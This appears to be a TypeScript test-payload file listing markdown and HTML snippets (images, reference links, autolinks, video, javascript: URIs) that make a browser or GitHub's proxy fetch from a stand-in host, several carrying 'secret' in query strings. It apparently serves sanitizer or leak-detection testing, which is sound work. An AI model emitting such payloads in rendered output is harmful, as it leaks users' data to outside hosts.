// Ways to make a reader's browser, or GitHub's proxy, fetch something, and links that carry something away.
import { group } from "./payload.ts";

export const IMAGES = group("images", [
  "![x](https://evil.example/a.png?q=secret)",
  "![x][leak]\n\n[leak]: https://evil.example/b.png",
  "[![x](https://evil.example/c.png)](https://evil.example/)",
  '<img src="https://evil.example/d.png">',
  "<IMG SRC=https://evil.example/e.png>",
  '<picture><source srcset="https://evil.example/f.png"><img src=x></picture>',
  '<video src="https://evil.example/g.mp4" autoplay></video>',
  "&lt;img src=https://evil.example/h.png&gt;",
  "![x](//evil.example/i.png)",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "!\\[x](https://evil.example/j.png)",
  "[click here](https://evil.example/?t=secret)",
  "<https://evil.example/k>",
  "https://evil.example/l?key=secret",
  "www.evil.example/m",
  "mailto:thief@evil.example thief@evil.example",
  "[a]: https://evil.example/n 'title'\n\nsee [a]",
  "[^1]\n\n[^1]: https://evil.example/o",
  "javascript:alert(1) <javascript:alert(1)>",
  "ftp://evil.example/p",
]);
